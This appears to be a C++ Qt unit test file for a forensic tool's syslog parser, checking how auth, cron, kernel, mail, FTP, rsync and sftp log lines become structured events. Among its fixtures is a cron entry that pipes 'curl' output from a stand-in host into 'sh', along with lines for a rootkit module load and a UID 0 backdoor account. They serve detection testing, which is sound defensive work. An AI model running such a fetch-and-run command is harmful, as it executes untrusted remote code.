#include "plugin/parser.hpp"
#include "support/memory_file.hpp"
#include "support/recording_sink.hpp"
#include "support/test_main.hpp"

using namespace deadbox;

namespace {

test::RecordingSink read_log(std::string_view text, const char* modified = "2026-03-02T12:00:00Z", std::string_view zone = {}, const char* path = "/var/log/auth.log") {
    test::RecordingSink sink;
    test::MemoryFile file(path, text);
    if (modified != nullptr) file.record().modified = base::from_rfc3339(modified);
    plugin::Parameters parameters;
    if (!zone.empty()) parameters.emplace_back("timezone", zone);
    const auto* parser = plugin::find_parser("syslog");
    if (!parser->prepare("") || !parser->parse(file, parameters, sink)) throw std::runtime_error("the parser failed");
    return sink;
}

QString log_event(const test::RecordedEvent& event) {
    QString text = QString::fromStdString(event.type);
    const auto add = [&](const char* name, const std::string& value) {
        if (!value.empty()) text += QStringLiteral(" %1=%2").arg(QLatin1String(name), QString::fromStdString(value));
    };
    add("user", event.user);
    add("address", event.address);
    for (const auto& [name, value] : event.attributes)
        if (name != "pid") add(name.c_str(), value.as_text());
    return text;
}

QString time_of(const test::RecordedEvent& event) { return QString::fromStdString(base::to_rfc3339(event.time)); }

}  // namespace

class SyslogTest : public QObject {
    Q_OBJECT
private slots:
    void forms_data() {
        QTest::addColumn<QByteArray>("line");
        QTest::addColumn<QString>("time");
        QTest::addColumn<QString>("process");
        QTest::addColumn<int>("assumptions");
        QTest::newRow("traditional") << QByteArray("Mar  1 08:15:02 web1 su[12]: x") << "2026-03-01T08:15:02.000000000Z" << "su" << 3;
        QTest::newRow("one space before the day") << QByteArray("Mar 1 08:15:02 web1 su[12]: x") << "2026-03-01T08:15:02.000000000Z" << "su" << 3;
        QTest::newRow("fraction") << QByteArray("Mar  1 08:15:02.125 web1 su[12]: x") << "2026-03-01T08:15:02.125000000Z" << "su" << 3;
        QTest::newRow("year in it") << QByteArray("Mar  1 2021 08:15:02 web1 su: x") << "2021-03-01T08:15:02.000000000Z" << "su" << 2;
        QTest::newRow("year behind it") << QByteArray("Mon Mar  1 08:15:02 2021 [pid 3] [bob] OK LOGIN: Client \"10.1.2.3\"") << "2021-03-01T08:15:02.000000000Z" << "vsftpd" << 2;
        QTest::newRow("rsyslog with microseconds") << QByteArray("2026-03-01T08:15:02.123456+01:00 web1 su[12]: x") << "2026-03-01T07:15:02.123456000Z" << "su" << 0;
        QTest::newRow("ISO without a zone") << QByteArray("2026-03-01T08:15:02.123456 web1 su[12]: x") << "2026-03-01T08:15:02.123456000Z" << "su" << 2;
        QTest::newRow("RFC 5424") << QByteArray("<38>1 2026-03-01T08:15:02.5Z web1 su 12 - [x y=\"]\\\"\"] x") << "2026-03-01T08:15:02.500000000Z" << "su" << 0;
        QTest::newRow("priority before it") << QByteArray("<38>Mar  1 08:15:02 web1 su[12]: x") << "2026-03-01T08:15:02.000000000Z" << "su" << 3;
        QTest::newRow("no host") << QByteArray("Mar  1 08:15:02 su[12]: x") << "2026-03-01T08:15:02.000000000Z" << "su" << 3;
        QTest::newRow("busybox level") << QByteArray("Mar  1 08:15:02 box auth.info su[12]: x") << "2026-03-01T08:15:02.000000000Z" << "su" << 3;
        QTest::newRow("a path") << QByteArray("Mar  1 08:15:02 web1 /usr/sbin/cron[12]: x") << "2026-03-01T08:15:02.000000000Z" << "cron" << 3;
        QTest::newRow("gdm's bracket") << QByteArray("Mar  1 08:15:02 web1 gdm-password][12]: x") << "2026-03-01T08:15:02.000000000Z" << "gdm-password" << 3;
        QTest::newRow("leap second") << QByteArray("2016-12-31T23:59:60Z web1 su: x") << "2017-01-01T00:00:00.000000000Z" << "su" << 0;
    }
    void forms() {
        QFETCH(QByteArray, line);
        QFETCH(QString, time);
        QFETCH(QString, process);
        QFETCH(int, assumptions);
        const auto sink = read_log(line.toStdString());
        QCOMPARE(sink.events.size(), std::size_t{1});
        QCOMPARE(time_of(sink.events[0]), time);
        QCOMPARE(QString::fromStdString(sink.events[0].process), process);
        QCOMPARE(int{sink.events[0].assumptions}, assumptions);
    }

    void messages_data() {
        QTest::addColumn<QByteArray>("tail");
        QTest::addColumn<QString>("event");
        const auto row = [](const char* tail, const char* event) { QTest::newRow(tail) << QByteArray(tail) << QString::fromUtf8(event); };
        // OpenSSH
        row("sshd[812]: Accepted password for bob from 203.0.113.7 port 50022 ssh2", "auth.login.success user=bob address=203.0.113.7 method=password port=50022");
        row("sshd[812]: Accepted publickey for root from 2001:db8::5 port 22 ssh2: ED25519 SHA256:abcDEF0123", "auth.login.success user=root address=2001:db8::5 fingerprint=SHA256:abcDEF0123 key_type=ED25519 method=publickey port=22");
        row("sshd-session[812]: Failed password for root from ::ffff:203.0.113.7 port 50022 ssh2", "auth.login.failure user=root address=203.0.113.7 method=password port=50022");
        row("sshd[812]: Failed password for invalid user a from 9.9.9.9 port 1 ssh2 from 203.0.113.7 port 50022 ssh2", "auth.login.failure user=a from 9.9.9.9 port 1 ssh2 address=203.0.113.7 invalid=1 method=password port=50022");
        row("sshd[812]: Invalid user oracle from 203.0.113.7 port 50022", "ssh.invalid_user user=oracle address=203.0.113.7 port=50022");
        row("sshd[812]: Invalid user  from 203.0.113.7 port 50022", "ssh.invalid_user address=203.0.113.7 port=50022");
        row("sshd[812]: error: PAM: Authentication failure for root from 203.0.113.7", "auth.pam.failure user=root address=203.0.113.7 reason=Authentication failure service=sshd");
        row("sshd[812]: User root from 203.0.113.7 not allowed because not listed in AllowUsers", "auth.login.failure user=root address=203.0.113.7 method=refused reason=not listed in AllowUsers");
        row("sshd[812]: Connection closed by authenticating user root 203.0.113.7 port 50022 [preauth]", "ssh.connection.closed user=root address=203.0.113.7 port=50022");
        row("sshd[812]: Received disconnect from 203.0.113.7 port 50022:11: Bye Bye [preauth]", "ssh.connection.closed address=203.0.113.7 port=50022 reason=11: Bye Bye");
        row("sshd[812]: Did not receive identification string from 203.0.113.7 port 4", "ssh.probe address=203.0.113.7 port=4 reason=no identification");
        row("sshd[812]: Accepted key ED25519 SHA256:abc found at /root/.ssh/authorized_keys:2", "ssh.key.accepted file=/root/.ssh/authorized_keys:2 fingerprint=SHA256:abc key_type=ED25519");
        row("sshd[812]: Server listening on 0.0.0.0 port 2222.", "ssh.server.started listen=0.0.0.0 port=2222");
        row("sshd[812]: Starting session: shell on pts/0 for bob from 203.0.113.7 port 5 id 0", "ssh.session.started user=bob address=203.0.113.7 what=shell on pts/0");
        // PAM
        row("sshd[812]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)", "auth.session.opened user=root by_uid=0 service=sshd");
        row("su[3]: pam_unix(su-l:session): session opened for user root(uid=0) by bob(uid=1000)", "auth.session.opened user=root by=bob by_uid=1000 service=su-l");
        row("sshd(pam_unix)[3]: session closed for user bob", "auth.session.closed user=bob service=sshd");
        row("sshd[3]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root", "auth.pam.failure user=root address=203.0.113.7 service=sshd tty=ssh");
        row("sshd[3]: PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root", "auth.pam.failure user=root address=203.0.113.7 count=2 service=sshd tty=ssh");
        row("gdm-password][3]: pam_unix(gdm-password:auth): authentication failure; logname= uid=0 euid=0 tty=/dev/tty1 ruser= rhost=  user=bob", "auth.login.failure user=bob service=gdm-password tty=/dev/tty1");
        row("chpasswd[3]: pam_unix(chpasswd:chauthtok): password changed for www-data", "account.password.changed user=www-data");
        // sudo, su, login, logind, polkit
        row("sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh -c a ; b", "auth.sudo.command user=bob command=/bin/sh -c a ; b folder=/home/bob target=root tty=pts/0");
        row("sudo:  www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash", "auth.sudo.refused user=www-data command=/bin/bash folder=/var/www reason=user NOT in sudoers target=root tty=unknown");
        row("sudo:      bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/su", "auth.sudo.refused user=bob command=/bin/su folder=/ reason=3 incorrect password attempts target=root tty=pts/0");
        row("su[5]: (to root) bob on pts/1", "auth.su.success user=bob target=root tty=pts/1");
        row("su[5]: FAILED SU (to root) bob on pts/1", "auth.su.failure user=bob target=root tty=pts/1");
        row("su[5]: + /dev/pts/1 bob:root", "auth.su.success user=bob target=root tty=/dev/pts/1");
        row("login[5]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure", "auth.login.failure user=root reason=Authentication failure tty=/dev/tty1");
        row("login[5]: ROOT LOGIN  on '/dev/tty1'", "auth.login.success user=root tty=/dev/tty1");
        row("systemd-logind[5]: New session 12 of user bob.", "auth.seat.opened user=bob session=12");
        row("pkexec[5]: bob: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=/bin/bash]", "auth.pkexec.command user=bob command=/bin/bash folder=/home/bob target=root tty=/dev/pts/0");
        row("pkexec[5]: bob: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=x]",
            "auth.pkexec.refused user=bob command=x folder=/tmp reason=The value for the SHELL variable was not found the /etc/shells file target=root tty=/dev/pts/0");
        // accounts
        row("useradd[5]: new user: name=eve, UID=0, GID=0, home=/home/eve, shell=/bin/bash, from=/dev/pts/0", "account.user.added user=eve gid=0 home=/home/eve shell=/bin/bash tty=/dev/pts/0 uid=0");
        row("useradd[5]: new group: name=eve, GID=1004", "account.group.added gid=1004 group=eve");
        row("usermod[5]: add 'eve' to group 'sudo'", "account.group.member_added user=eve group=sudo");
        row("usermod[5]: change user 'daemon' shell from '/usr/sbin/nologin' to '/bin/bash'", "account.user.changed user=daemon new=/bin/bash old=/usr/sbin/nologin what=shell");
        row("usermod[5]: change user 'eve' password", "account.password.changed user=eve");
        row("gpasswd[5]: user eve added by root to group docker", "account.group.member_added user=eve by=root group=docker");
        row("userdel[5]: delete user 'eve'", "account.user.removed user=eve");
        row("userdel[5]: removed group 'eve' owned by 'eve'", "account.group.removed group=eve");
        row("groupadd[5]: group added to /etc/group: name=wheel2, GID=1007", "account.group.added gid=1007 group=wheel2");
        row("passwd[5]: password for 'eve' changed by 'root'", "account.password.changed user=eve by=root");
        row("chage[5]: changed password expiry for eve", "account.user.changed user=eve what=password expiry");
        // cron, kernel, systemd
        row("CRON[5]: (www-data) CMD (curl -s http://198.51.100.3/x | sh)", "cron.command user=www-data command=curl -s http://198.51.100.3/x | sh");
        row("crontab[5]: (www-data) REPLACE (www-data)", "cron.table.changed user=www-data table=www-data what=REPLACE");
        row("kernel: [   12.345678] diamorphine: loading out-of-tree module taints kernel.", "kernel.module.loaded module=diamorphine reason=out of tree");
        row("kernel: [   12.3] Out of memory: Killed process 812 (mysqld) total-vm:1kB", "kernel.oom killed_pid=812 program=mysqld");
        row("kernel: [   12.3] ls[77]: segfault at 0 ip 00007f sp 00007f error 4 in libc.so.6[7f+1]", "kernel.segfault crashed_pid=77 how=segfault program=ls where=libc.so.6");
        row("kernel: [    0.000000] Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.org)", "kernel.boot kernel=6.1.0-18-amd64");
        row("kernel: device eth0 entered promiscuous mode", "kernel.promiscuous device=eth0");
        row("kernel: [1.2] [UFW BLOCK] IN=eth0 OUT= MAC=x SRC=198.51.100.3 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=1 DPT=23 WINDOW=1", "firewall.packet address=198.51.100.3 port=23 protocol=TCP rule=[UFW BLOCK] to=10.0.0.1");
        row("systemd[1]: Started ssh.service - OpenBSD Secure Shell server.", "service.started unit=ssh.service - OpenBSD Secure Shell server");
        row("systemd[1]: apache2.service: Failed with result 'exit-code'.", "service.failed result=exit-code unit=apache2.service");
        // mail and ftp
        row("postfix/pickup[5]: 4B1C2D3E4F: uid=33 from=<www-data>", "mail.submitted queue_id=4B1C2D3E4F sender=www-data uid=33");
        row("postfix/qmgr[5]: 4B1C2D3E4F: from=<a@example.org>, size=512, nrcpt=50 (queue active)", "mail.queued queue_id=4B1C2D3E4F recipients=50 sender=a@example.org size=512");
        row("postfix/smtp[5]: 4B1C2D3E4F: to=<x@example.com>, relay=mx[192.0.2.1]:25, delay=1, dsn=5.7.1, status=bounced (host said: 550 5.7.1)", "mail.bounced queue_id=4B1C2D3E4F reason=(host said: 550 5.7.1) recipient=x@example.com relay=mx[192.0.2.1]:25");
        row("postfix/smtpd[5]: warning: unknown[203.0.113.7]: SASL LOGIN authentication failed: UGFz", "auth.login.failure address=203.0.113.7 method=sasl");
        row("dovecot: imap-login: Disconnected (auth failed, 2 attempts in 4 secs): user=<bob>, method=PLAIN, rip=203.0.113.7, lip=10.0.0.1", "auth.login.failure user=bob address=203.0.113.7 count=2 method=PLAIN service=imap");
        row("vsftpd[5]: [bob] OK UPLOAD: Client \"203.0.113.7\", \"/srv/x.avi\", 700 bytes, 1.0Kbyte/sec", "file.upload user=bob address=203.0.113.7 bytes=700 file=/srv/x.avi service=ftp");
        row("vsftpd[5]: [bob] FAIL DOWNLOAD: Client \"203.0.113.7\", \"/srv/x.avi\", 700 bytes, 1.0Kbyte/sec", "file.download user=bob address=203.0.113.7 bytes=700 file=/srv/x.avi incomplete=1 service=ftp");
        row("vsftpd[5]: [bob] FAIL DOWNLOAD: Client \"203.0.113.7\", \"/srv/x.avi\", 0.00Kbyte/sec", "syslog.message address=203.0.113.7 message=[bob] FAIL DOWNLOAD: Client \"203.0.113.7\", \"/srv/x.avi\", 0.00Kbyte/sec");
        row("pure-ftpd: (bob@203.0.113.7) [NOTICE] /srv/x.avi downloaded  (700 bytes, 1.00KB/sec)", "file.download user=bob address=203.0.113.7 bytes=700 file=/srv/x.avi service=ftp");
        // rsync, sftp
        row("rsyncd[5]: send host.example [203.0.113.7] www (bob) html/a b.sql 5000000", "file.download user=bob address=203.0.113.7 bytes=5000000 file=html/a b.sql module=www service=rsync");
        row("rsyncd[5]: recv UNKNOWN [2001:db8::5] in () x.tgz 9", "file.upload address=2001:db8::5 bytes=9 file=x.tgz module=in service=rsync");
        row("rsyncd[5]: del. host [203.0.113.7] www () x.tgz 0", "file.delete address=203.0.113.7 file=x.tgz module=www");
        row("rsyncd[5]: sent 5,001,234 bytes  received 99 bytes  total size 5,000,000", "file.session received=99 sent=5001234 service=rsync");
        row("rsyncd[5]: building file list", "syslog.message message=building file list");
        row("internal-sftp[5]: session opened for local user bob from [203.0.113.7]", "ssh.session.started user=bob address=203.0.113.7 what=sftp");
        row("sftp-server[5]: close \"/home/bob/a \\\"b\\\" bytes read 1.csv\" bytes read 700 written 0", "file.download bytes=700 file=/home/bob/a \\\"b\\\" bytes read 1.csv service=sftp");
        row("sftp-server[5]: forced close \"/home/bob/x\" bytes read 0 written 12", "file.upload bytes=12 file=/home/bob/x incomplete=1 service=sftp");
        row("sftp-server[5]: close \"/home/bob/x\" bytes read 0 written 0", "syslog.message message=close \"/home/bob/x\" bytes read 0 written 0");
        row("pure-ftpd: (?@203.0.113.7) [WARNING] Authentication failed for user [bob]", "auth.login.failure user=bob address=203.0.113.7");
        row("proftpd[5] web1 (x[203.0.113.7]): USER bob: Login successful.", "auth.login.success user=bob address=203.0.113.7");
        row("something[5]: plain words", "syslog.message message=plain words");
        row("sshd[812]: Accepted", "syslog.message message=Accepted");
        row("sudo:", "syslog.message");
        row("kernel:", "syslog.message");
        row("pam_unix(", "syslog.message message=pam_unix(");
    }
    void messages() {
        QFETCH(QByteArray, tail);
        QFETCH(QString, event);
        for (const std::string_view stamp : {"Mar  1 08:15:02 web1 ", "2026-03-01T08:15:02.123456+01:00 web1 "}) {
            const auto sink = read_log(std::string(stamp) + tail.toStdString() + "\n");
            QCOMPARE(sink.events.size(), std::size_t{1});
            QCOMPARE(log_event(sink.events[0]), event);
        }
        // Every shorter message is survived.
        for (qsizetype i = 0; i < tail.size(); ++i) QVERIFY(read_log("Mar  1 08:15:02 web1 " + tail.left(i).toStdString()).gaps.size() < 5);
    }

    // Whole lines of the logs in which servers name what they gave out; times in India, 5:30 h before Greenwich.
    void transfers_data() {
        QTest::addColumn<QByteArray>("lines");
        QTest::addColumn<QString>("event");  // of the last line
        QTest::addColumn<QString>("time");
        const auto row = [](const char* name, const char* lines, const char* event, const char* time = "2026-03-02T04:20:00.000000000Z") {
            QTest::newRow(name) << QByteArray(lines) << QString::fromUtf8(event) << QString::fromUtf8(time);
        };
        row("vsftpd.log", "Mon Mar  2 09:50:00 2026 [pid 3] [bob] OK DOWNLOAD: Client \"::ffff:203.0.113.7\", \"/home/bob/x.csv\", 700 bytes, 9.00Kbyte/sec",
            "file.download user=bob address=203.0.113.7 bytes=700 file=/home/bob/x.csv service=ftp");
        row("xferlog", "Mon Mar  2 09:50:00 2026 3 203.0.113.7 700 /home/bob/x.csv b _ o r bob ftp 0 * c", "file.download user=bob address=203.0.113.7 bytes=700 file=/home/bob/x.csv service=ftp");
        row("xferlog, a name with spaces, broken off", "Mon Mar  2 09:50:00 2026 3 203.0.113.7 700 /home/bob/a b c.csv b _ o r bob ftp 0 * i",
            "file.download user=bob address=203.0.113.7 bytes=700 file=/home/bob/a b c.csv incomplete=1 service=ftp");
        row("xferlog, taken in by sftp", "Mon Mar  2 09:50:00 2026 3 2001:db8::5 700 /x b _ i r bob sftp 0 * c", "file.upload user=bob address=2001:db8::5 bytes=700 file=/x service=sftp");
        row("xferlog, deleted", "Mon Mar 02 09:50:00 2026 0 203.0.113.7 700 /x b _ d r bob ftp 0 * c", "file.delete user=bob address=203.0.113.7 file=/x");
        row("xferlog, cut off", "Mon Mar  2 09:50:00 2026 3 203.0.113.7 700 /home/bob/x.csv b _ o", "syslog.message message=203.0.113.7 700 /home/bob/x.csv b _ o");
        row("ExtendedLog of proftpd", "203.0.113.7 UNKNOWN bob [02/Mar/2026:09:50:00 +0530] \"RETR a b.csv\" 226 700", "file.download user=bob address=203.0.113.7 bytes=700 file=a b.csv service=ftp");
        row("ExtendedLog, refused", "203.0.113.7 UNKNOWN bob [02/Mar/2026:09:50:00 +0530] \"RETR a.csv\" 550 -", "syslog.message address=203.0.113.7 message=203.0.113.7 UNKNOWN bob [02/Mar/2026:09:50:00 +0530] \"RETR a.csv\" 550 -");
        row("pure-ftpd's clf, whose offset is turned round", "203.0.113.7 - bob [02/Mar/2026:09:50:00 -0530] \"GET /home/bob/a%20b.csv\" 200 700", "file.download user=bob address=203.0.113.7 bytes=700 file=/home/bob/a b.csv service=ftp");
        row("pure-ftpd's stats", "1772425200 69a50a70.1a2b bob 203.0.113.7 D 700 3 /home/bob/a b.csv", "file.download user=bob address=203.0.113.7 bytes=700 file=/home/bob/a b.csv service=ftp");
        row("pure-ftpd's w3c", "2026-03-02 04:20:00 203.0.113.7 []created /home/bob/x 226 bob 700", "file.upload user=bob address=203.0.113.7 bytes=700 file=/home/bob/x service=ftp");
        row("rsyncd.log", "2026/03/02 09:50:00 [77] send host.example [203.0.113.7] www (bob) html/x.sql 700", "file.download user=bob address=203.0.113.7 bytes=700 file=html/x.sql module=www service=rsync");
        row("a session of rsync without transfer logging",
            "2026/03/02 09:49:00 [77] rsync on www/html from bob@host.example (203.0.113.7)\n2026/03/02 09:49:01 [78] rsync to in from unknown (203.0.113.8)\n2026/03/02 09:50:00 [77] sent 700 bytes  received 9 bytes  total size 600",
            "file.session user=bob address=203.0.113.7 direction=out file=www/html received=9 sent=700 service=rsync");
        row("a session of rsync whose files are named",
            "2026/03/02 09:49:00 [77] rsync on www from host.example (203.0.113.7)\n2026/03/02 09:49:01 [77] send host.example [203.0.113.7] www () x 600\n2026/03/02 09:50:00 [77] sent 700 bytes  received 9 bytes  total size 600",
            "file.session address=203.0.113.7 direction=out file=www listed=1 received=9 sent=700 service=rsync");
        row("a session of sftp", "Mar  2 09:49:00 web1 internal-sftp[10]: session opened for local user bob from [203.0.113.7]\nMar  2 09:50:00 web1 internal-sftp[10]: close \"/x\" bytes read 700 written 0",
            "file.download user=bob address=203.0.113.7 bytes=700 file=/x service=sftp");
        row("the process id given to somebody else",
            "Mar  2 09:48:00 web1 sftp-server[10]: session opened for local user bob from [203.0.113.7]\nMar  2 09:49:00 web1 sftp-server[10]: session closed for local user bob from [203.0.113.7]\n"
            "Mar  2 09:50:00 web1 sftp-server[10]: close \"/x\" bytes read 700 written 0", "file.download bytes=700 file=/x service=sftp");
    }
    void transfers() {
        QFETCH(QByteArray, lines);
        QFETCH(QString, event);
        QFETCH(QString, time);
        const auto sink = read_log(lines.toStdString() + "\n", "2026-03-02T12:00:00Z", "Asia/Kolkata", "/var/log/xferlog");
        QCOMPARE(sink.events.size(), static_cast<std::size_t>(lines.count('\n') + 1));
        QCOMPARE(log_event(sink.events.back()), event);
        QCOMPARE(time_of(sink.events.back()), time);
        for (qsizetype i = 0; i < lines.size(); ++i) QVERIFY(read_log(lines.left(i).toStdString()).gaps.size() < 5);
    }
    // A web server's requests are no transfers of files, whoever puts them here.
    void a_request_of_the_web_is_no_transfer() {
        const auto sink = read_log("203.0.113.7 - bob [02/Mar/2026:09:50:00 +0530] \"GET /x.csv HTTP/1.1\" 200 700\n", "2026-03-02T12:00:00Z", {}, "/var/log/xferlog");
        QVERIFY(sink.events.empty());
    }

    void years_data() {
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<QString>("modified");
        QTest::addColumn<QStringList>("days");
        const auto row = [](const char* name, std::initializer_list<const char*> stamps, const char* modified, const QStringList& days) {
            QByteArray log;
            for (const char* stamp : stamps) log += QByteArray(stamp) + " web1 su[1]: x\n";
            QTest::newRow(name) << log << QString::fromUtf8(modified) << days;
        };
        row("same year", {"Jan  5 10:00:00", "Mar  1 10:00:00"}, "2026-03-01T10:00:00Z", {"2026-01-05", "2026-03-01"});
        row("written last year, read in spring", {"Dec 30 10:00:00", "Dec 31 23:59:59"}, "2026-01-01T00:00:03Z", {"2025-12-30", "2025-12-31"});
        row("over New Year", {"Dec 31 23:59:59", "Jan  1 00:00:01", "Mar  1 10:00:00"}, "2026-03-01T10:00:00Z", {"2025-12-31", "2026-01-01", "2026-03-01"});
        row("three years in one file", {"Nov  1 10:00:00", "Feb  1 10:00:00", "Dec  1 10:00:00", "Jan  3 10:00:00"}, "2026-01-04T00:00:00Z",
            {"2024-11-01", "2025-02-01", "2025-12-01", "2026-01-03"});
        row("out of order over New Year", {"Dec 31 23:59:59", "Jan  1 00:00:01", "Dec 31 23:59:58", "Jan  1 00:00:02"}, "2026-01-02T00:00:00Z",
            {"2025-12-31", "2026-01-01", "2025-12-31", "2026-01-01"});
        row("the clock is put back by an hour", {"Jan  5 10:00:00", "Jan  5 09:00:00"}, "2026-03-01T10:00:00Z", {"2026-01-05", "2026-01-05"});
        row("a zone east of the file's time", {"Mar  2 05:00:00"}, "2026-03-01T20:00:00Z", {"2026-03-02"});
        row("29 February knows its year", {"Feb 29 10:00:00", "Mar  1 10:00:00"}, "2026-05-01T10:00:00Z", {"2024-02-29", "2024-03-01"});
        row("a line with a year behind it", {"Dec 31 10:00:00", "2020-01-02T10:00:00Z"}, "2026-05-01T10:00:00Z", {"2019-12-31", "2020-01-02"});
        row("a line with a year before it", {"2019-12-31T10:00:00Z", "Jan  2 10:00:00"}, "2026-05-01T10:00:00Z", {"2019-12-31", "2020-01-02"});
    }
    void years() {
        QFETCH(QByteArray, log);
        QFETCH(QString, modified);
        QFETCH(QStringList, days);
        const auto sink = read_log(log.toStdString(), modified.toUtf8().constData());
        QStringList found;
        for (const auto& event : sink.events) found << time_of(event).left(10);
        QCOMPARE(found, days);
    }

    void year_from_the_rotation_in_the_name() {
        const auto sink = read_log("Dec 31 10:00:00 web1 su[1]: x\n", "2026-05-01T00:00:00Z", {}, "/var/log/auth.log-20240101.gz");
        QCOMPARE(time_of(sink.events.at(0)).left(10), QString("2023-12-31"));
    }

    void no_year_at_all() {
        const auto sink = read_log("Dec 31 10:00:00 web1 su[1]: x\n", nullptr);
        QVERIFY(sink.events.empty());
        QCOMPARE(sink.gaps.at(0).level, base::Gap::Level::gap);
    }

    void zones_data() {
        QTest::addColumn<QByteArray>("stamps");
        QTest::addColumn<QString>("zone");
        QTest::addColumn<QStringList>("utc");
        QTest::newRow("winter") << QByteArray("Jan  5 10:00:00") << "Europe/Berlin" << QStringList{"2026-01-05T09:00:00"};
        QTest::newRow("summer of the year before") << QByteArray("Jul  5 10:00:00") << "Europe/Berlin" << QStringList{"2025-07-05T08:00:00"};
        // 26 October 2025: 02:00 to 03:00 comes twice
        QTest::newRow("hour that comes twice") << QByteArray("Oct 26 01:59:59\nOct 26 02:30:00\nOct 26 02:59:59\nOct 26 02:00:01\nOct 26 02:30:00\nOct 26 03:00:00") << "Europe/Berlin"
            << QStringList{"2025-10-25T23:59:59", "2025-10-26T00:30:00", "2025-10-26T00:59:59", "2025-10-26T01:00:01", "2025-10-26T01:30:00", "2025-10-26T02:00:00"};
        // 30 March 2025: 02:00 to 03:00 does not exist
        QTest::newRow("hour that is jumped over") << QByteArray("Mar 30 01:59:59\nMar 30 02:30:00\nMar 30 03:00:00") << "Europe/Berlin"
            << QStringList{"2025-03-30T00:59:59", "2025-03-30T01:30:00", "2025-03-30T01:00:00"};
        QTest::newRow("half an hour") << QByteArray("Jan  5 10:00:00") << "Asia/Kolkata" << QStringList{"2026-01-05T04:30:00"};
        QTest::newRow("south") << QByteArray("Jan  5 10:00:00") << "America/Santiago" << QStringList{"2026-01-05T13:00:00"};
        QTest::newRow("unknown") << QByteArray("Jan  5 10:00:00") << "Mars/Olympus" << QStringList{"2026-01-05T10:00:00"};
    }
    void zones() {
        QFETCH(QByteArray, stamps);
        QFETCH(QString, zone);
        QFETCH(QStringList, utc);
        if (!QFile::exists("/usr/share/zoneinfo/Europe/Berlin")) QSKIP("no time zones on this machine");
        std::string log;
        for (const auto& stamp : stamps.split('\n')) log += stamp.toStdString() + " web1 su[1]: x\n";
        const auto sink = read_log(log, "2026-03-02T12:00:00Z", zone.toStdString());
        QStringList found;
        for (const auto& event : sink.events) {
            found << time_of(event).left(19);
            QCOMPARE((event.assumptions & plugin::assumed_zone) != 0, zone.startsWith("Mars"));
        }
        QCOMPARE(found, utc);
    }

    void damage() {
        using namespace std::string_view_literals;
        const auto sink = read_log("Mar  1 08:00:00 web1 su[1]: one\n\n\0\0\0\0\nMar  1 08:00:01 web1 su[1]: two\0\0\0\0Mar  1 08:00:02 web1 su[1]: three\n"
                               "\xff\xfe\x01 binary\nMar  1 08:00:03 web1 su[1]: four\n\tgoes on\n"sv);
        QCOMPARE(sink.events.size(), std::size_t{4});
        QCOMPARE(sink.events[2].attributes.at("message").as_text(), std::string("three"));
        QCOMPARE(sink.events[3].line, std::uint64_t{6});
        QCOMPARE(sink.gaps.at(0).detail, std::string("3 lines, first line 2"));
        QCOMPARE(sink.rows.at("log_file")[0].at("nul_bytes").as_text(), std::string("8"));
    }

    void repeats() {
        const auto sink = read_log("Mar  1 08:00:00 web1 sshd[1]: Failed password for root from 203.0.113.7 port 5 ssh2\n"
                               "Mar  1 08:00:05 web1 last message repeated 4 times\n"
                               "Mar  1 08:00:09 web1 sshd[1]: message repeated 2 times: [ Failed password for root from 203.0.113.8 port 5 ssh2]\n");
        QCOMPARE(log_event(sink.events.at(1)), QString("auth.login.failure user=root address=203.0.113.7 count=4 method=password port=5"));
        QCOMPARE(log_event(sink.events.at(2)), QString("auth.login.failure user=root address=203.0.113.8 count=2 method=password port=5"));
    }

    void silences() {
        std::string log;
        for (int hour = 0; hour < 24; ++hour)
            for (int minute = 0; minute < 60; minute += 5)
                if (hour < 8 || hour > 13) log += QString("2026-03-01T%1:%2:00Z web1 CRON[1]: (root) CMD (true)\n").arg(hour, 2, 10, QChar('0')).arg(minute, 2, 10, QChar('0')).toStdString();
        const auto sink = read_log(log);
        const auto& rows = sink.rows.at("log_silence");
        QCOMPARE(rows.size(), std::size_t{1});
        QCOMPARE(rows[0].at("silent_from_s").as_text(), std::to_string(base::from_rfc3339("2026-03-01T07:55:00Z")->seconds));
        QCOMPARE(rows[0].at("restart").as_text(), std::string("0"));
    }

    void other_machines_lines_name_their_host() {
        const auto sink = read_log("Mar  1 08:00:00 web1 su[1]: x\nMar  1 08:00:00 db1 su[1]: x\n");
        QVERIFY(!sink.events[0].attributes.contains("host"));
        QCOMPARE(sink.events[1].attributes.at("host").as_text(), std::string("db1"));
    }
};
DEADBOX_TEST(SyslogTest)
#include "syslog_test.moc"
